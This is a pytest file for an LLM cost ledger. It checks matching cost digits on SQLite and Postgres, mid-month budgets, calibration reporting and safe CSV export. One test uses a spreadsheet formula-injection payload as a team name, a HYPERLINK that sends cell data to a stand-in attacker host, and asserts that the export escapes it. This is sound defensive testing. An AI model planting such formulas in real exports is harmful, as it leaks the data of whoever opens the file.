"""Money that reads right on real ledgers, SQLite and Postgres: the same digits from both, a budget
set mid-month that counts the month's spend so far (and is simply over when that passes the limit),
calibration that is not a negative saving, and a CSV export a spreadsheet cannot run.

Each test writes its own tenant, team, jobs, call rows and rollups (as the engine writes them) in a
transaction that is rolled back (Postgres) or in a fresh file (SQLite).
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from rich.console import Console
from sqlalchemy import select
from sqlmodel import Session

from router.cli import views
from router.ledger import budgets, repo
from router.ledger.db import get_engine, upgrade
from router.ledger.rollup import BaselineRates, CallFacts, rollup_rows, upsert_rollups
from router.ledger.tables import BudgetEvent, Call, CallStatus, Job, Team, Tenant
from router.reports.monthly import monthly_report
from router.reports.render import plain, render_budget_table, render_csv, render_html, render_json, render_table, usd
from router.settings import Settings

D = Decimal
MID_OCTOBER = datetime(2026, 10, 20, 12, 0, tzinfo=UTC)
RATES = BaselineRates(D("2.5"), D("10"))  # the baseline model's $ per Mtok, in and out


def _sqlite(tmp_path: Path) -> Settings:
    settings = Settings(database_url=f"sqlite:///{tmp_path / 'ledger.db'}", _env_file=None)  # type: ignore[call-arg]
    upgrade(settings)
    return settings


@pytest.fixture(params=["sqlite", "postgres"])
def ledger(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Session, Settings]]:
    """A session on either backend, and its settings (with a EUR rate of 2 USD)."""
    if request.param == "sqlite":
        settings = _sqlite(tmp_path)
    else:
        settings = request.getfixturevalue("live_settings")
    settings = settings.model_copy(update={"usd_per_eur": D("2")})
    with Session(get_engine(settings)) as session:
        yield session, settings
        session.rollback()


def _team(session: Session, name: str | None = None) -> Team:
    return repo.ensure_team(session, tenant=f"money-{uuid.uuid4().hex[:8]}", team=name or "growth")


def _tenant(session: Session, team: Team) -> str:
    tenant = session.get(Tenant, team.tenant_id)
    assert tenant is not None
    return tenant.name


def _spend(
    session: Session,
    team: Team,
    at: str,
    cost: Decimal,
    *,
    purpose: str = "run",
    baseline: BaselineRates | None = None,
    tokens: tuple[int, int] = (1000, 10),
) -> None:
    """One call of `team` at `at` (UTC), its call row and its rollup, as the engine records them."""
    assert team.id is not None
    job_id = f"money-{team.id}-{purpose}"
    if session.get(Job, job_id) is None:
        session.add(Job(id=job_id, tenant_id=team.tenant_id, team_id=team.id, task="classify", min_quality=0.9))
        session.flush()
    started = datetime.fromisoformat(at).replace(tzinfo=UTC)
    session.add(
        Call(
            id=uuid.uuid4().hex,
            job_id=job_id,
            item_id=1,
            tenant_id=team.tenant_id,
            team_id=team.id,
            model_id="gpt-4o-mini",
            provider="openai",
            purpose=purpose,
            status=CallStatus.OK,
            input_tokens=tokens[0],
            cached_input_tokens=0,
            output_tokens=tokens[1],
            cost_usd=cost,
            started_at=started,
        )
    )
    session.flush()
    upsert_rollups(
        session,
        rollup_rows(
            [CallFacts(started, False, tokens[0], 0, tokens[1], cost)],
            tenant_id=team.tenant_id,
            team_id=team.id,
            job_id=job_id,
            model_id="gpt-4o-mini",
            provider="openai",
            task="classify",
            purpose=purpose,
            timezone="UTC",
            baseline_rates=baseline if purpose == "run" else None,
        ),
    )


def _text(renderable: object) -> str:
    console = Console(record=True, width=160, highlight=False)
    console.print(renderable)
    return console.export_text()


# -- the same digits on SQLite and Postgres --------------------------------------------------------


def test_a_cost_prints_the_same_digits_on_sqlite_and_postgres(live_settings: Settings, tmp_path: Path) -> None:
    outputs = []
    for settings in (_sqlite(tmp_path), live_settings):
        with Session(get_engine(settings)) as session:
            team = repo.ensure_team(session, tenant="money-digits", team="growth")
            # An engine cost as computed (8 places with a trailing zero): SQLite keeps the text, Postgres
            # NUMERIC(20, 10) pads it.
            _spend(session, team, "2026-10-02T09:00:00", D("0.00001590"), baseline=RATES)
            _spend(session, team, "2026-10-03T09:00:00", D("0.0025000"), purpose="calibration")
            stored = session.execute(
                select(Call.cost_usd).where(Call.purpose == "run", Call.team_id == team.id)
            ).scalar_one()
            assert stored == D("0.0000159")
            assert plain(stored) == "0.0000159000" and usd(stored, 6) == "$0.000016" and usd(stored) == "$0.000016"
            report = monthly_report(session, month="2026-10", tenant="money-digits")
            assert usd(report.totals.spend_usd) == "$0.0025"
            outputs.append((render_csv(report), render_json(report), _text(render_table(report)), render_html(report)))
            session.rollback()
    sqlite, postgres = outputs
    assert sqlite == postgres
    assert "0.0025159000" in sqlite[0] and "E-" not in "".join(sqlite) and "E+" not in "".join(sqlite)


# -- a budget set mid-month counts the month's spend so far ----------------------------------------


def test_a_budget_set_mid_month_counts_the_spend_so_far(ledger: tuple[Session, Settings]) -> None:
    session, settings = ledger
    team = _team(session)
    _spend(session, team, "2026-10-02T09:00:00", D("0.0030"), baseline=RATES)
    _spend(session, team, "2026-10-15T09:00:00", D("0.0020"), purpose="calibration")
    _spend(session, team, "2026-09-30T23:59:59", D("1"))  # September: not this month's
    _spend(session, _team(session, "other"), "2026-10-10T09:00:00", D("5"))  # another team's
    period = budgets.set_budget(
        session, team=team, monthly=D("10"), currency="USD", soft_pct=None, settings=settings, now=MID_OCTOBER
    )
    assert period.period_start == date(2026, 10, 1)
    assert period.settled == D("0.005") and period.reserved == 0 and not budgets.is_over(period)
    assert budgets.remaining_usd(period, settings) == D("9.995")
    detail = session.execute(select(BudgetEvent.detail).where(BudgetEvent.team_id == team.id)).scalar_one()
    assert detail["spent_before_usd"] == "0.0050000000"  # the same text from either backend
    # The report shows that spend against the budget, not "used 0.00%".
    tenant = _tenant(session, team)
    budget = monthly_report(session, month="2026-10", tenant=tenant).budgets[0]
    assert budget.settled == D("0.005") and budget.used_pct == D("0.05")
    # Setting it again (a higher limit) counts nothing twice; spend from now on settles as usual.
    again = budgets.set_budget(
        session, team=team, monthly=D("20"), currency="USD", soft_pct=None, settings=settings, now=MID_OCTOBER
    )
    assert again.id == period.id and again.settled == D("0.005") and again.limit_amount == D("20")
    held = budgets.reserve(
        session,
        period=again,
        amount_usd=D("1"),
        job_id=f"money-{team.id}-run",
        settings=settings,
        now=MID_OCTOBER,
    )
    assert held is not None
    budgets.settle(session, reservation_id=held.id, actual_usd=D("0.25"), now=MID_OCTOBER)
    session.refresh(again)
    assert again.settled == D("0.255") and again.reserved == 0


def test_a_budget_below_the_spend_so_far_is_simply_over(ledger: tuple[Session, Settings]) -> None:
    session, settings = ledger
    team = _team(session)
    _spend(session, team, "2026-10-02T09:00:00", D("0.0050"), baseline=RATES)
    period = budgets.set_budget(
        session, team=team, monthly=D("0.001"), currency="USD", soft_pct=80.0, settings=settings, now=MID_OCTOBER
    )
    assert period.settled == D("0.005") and period.limit_amount == D("0.001")  # no crash, nothing hidden
    assert budgets.is_over(period) and budgets.remaining_usd(period, settings) == 0  # never negative
    job_id = f"money-{team.id}-run"
    assert (
        budgets.reserve(
            session, period=period, amount_usd=D("0.0000001"), job_id=job_id, settings=settings, now=MID_OCTOBER
        )
        is None
    )
    said = views.budget_set_text("growth", period)
    assert "0.001 USD a month" in said and "over[/]: the team already spent $0.005000 this month" in said
    assert "500.00% of the new limit" in said and "2026-11-01" in said
    tenant = _tenant(session, team)
    report = monthly_report(session, month="2026-10", tenant=tenant)
    assert "500.00% (over)" in _text(render_budget_table(report))
    # Raised above the spend, the period takes work again.
    raised = budgets.set_budget(
        session, team=team, monthly=D("1"), currency="USD", soft_pct=80.0, settings=settings, now=MID_OCTOBER
    )
    assert not budgets.is_over(raised) and budgets.remaining_usd(raised, settings) == D("0.995")


def test_a_eur_budget_counts_the_spend_so_far_at_the_configured_rate(ledger: tuple[Session, Settings]) -> None:
    session, settings = ledger
    team = _team(session)
    _spend(session, team, "2026-10-02T09:00:00", D("0.0050"), baseline=RATES)
    period = budgets.set_budget(
        session, team=team, monthly=D("5"), currency="EUR", soft_pct=None, settings=settings, now=MID_OCTOBER
    )
    assert period.currency == "EUR" and period.settled == D("0.0025")  # $0.005 at 2 USD per EUR
    assert "settled 0.002500 EUR" in views.budget_set_text("growth", period)


def test_a_month_with_no_spend_starts_at_zero(ledger: tuple[Session, Settings]) -> None:
    session, settings = ledger
    team = _team(session)
    _spend(session, team, "2026-09-30T09:00:00", D("0.0050"))
    period = budgets.set_budget(
        session, team=team, monthly=D("5E+2"), currency="USD", soft_pct=None, settings=settings, now=MID_OCTOBER
    )
    assert period.settled == 0
    assert views.budget_set_text("growth", period).startswith("team growth: 500 USD a month; 2026-10 so far")


# -- calibration is its own line, not a negative saving ---------------------------------------------


def test_a_calibration_only_team_is_not_a_negative_saving(ledger: tuple[Session, Settings]) -> None:
    session, _ = ledger
    saver = _team(session)
    tenant = _tenant(session, saver)
    research = repo.ensure_team(session, tenant=tenant, team="research")
    _spend(session, saver, "2026-10-02T09:00:00", D("0.0001"), baseline=RATES, tokens=(100_000, 1000))  # 0.26 baseline
    _spend(session, saver, "2026-10-02T10:00:00", D("0.0100"), purpose="calibration")
    _spend(session, saver, "2026-10-02T11:00:00", D("0.0040"), purpose="drift")
    _spend(session, research, "2026-10-03T09:00:00", D("0.0118"), purpose="calibration")
    report = monthly_report(session, month="2026-10", tenant=tenant)
    rows = {r.key: r for r in report.rows}
    assert rows["research"].savings_pct is None and rows["research"].calibration_spend_usd == D("0.0118")
    assert rows["growth"].drift_spend_usd == D("0.004") and rows["growth"].run_spend_usd == D("0.0001")
    assert rows["growth"].savings_usd == D("0.2599")  # 0.26 - 0.0001: the run items against the baseline
    table = _text(render_table(report))
    assert not re.search(r"-\d[\d,.]*%", table), table
    assert "99.96%" in table and "against each job's baseline model" in table
    assert "Calibration ($0.022) and drift checks ($0.004)" in " ".join(table.split())
    cells = {r[0]: r for r in csv.reader(io.StringIO(render_csv(report)))}
    header = cells["team"]
    assert cells["research"][header.index("savings_usd")] == "" and cells["research"][header.index("savings_pct")] == ""
    doc = json.loads(render_json(report))
    assert doc["totals"]["savings_usd"] == "0.2599000000" and doc["totals"]["net_savings_usd"] == "0.2341000000"
    page = render_html(report)
    assert "Run items saved vs baseline model" in page and "Calibration and drift checks" in page


# -- CSV a spreadsheet cannot run -------------------------------------------------------------------


def test_a_hostile_team_name_is_neutralized_in_the_csv(ledger: tuple[Session, Settings]) -> None:
    session, _ = ledger
    name = '=HYPERLINK("http://evil.example/?d="&A2,"totals")'
    team = _team(session, name)
    _spend(session, team, "2026-10-02T09:00:00", D("0.0100"), baseline=RATES)  # more than its baseline
    tenant = _tenant(session, team)
    text = render_csv(monthly_report(session, month="2026-10", tenant=tenant))
    header, row, total = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["team"] == "'" + name
    assert cells["savings_usd"] == "-0.0074000000"  # 0.0026 - 0.01: a negative number stays a number
    assert not any(line.startswith(("=", "+", "@", "-", "\t", "\r")) for line in text.splitlines())
    assert total[0] == "TOTAL"
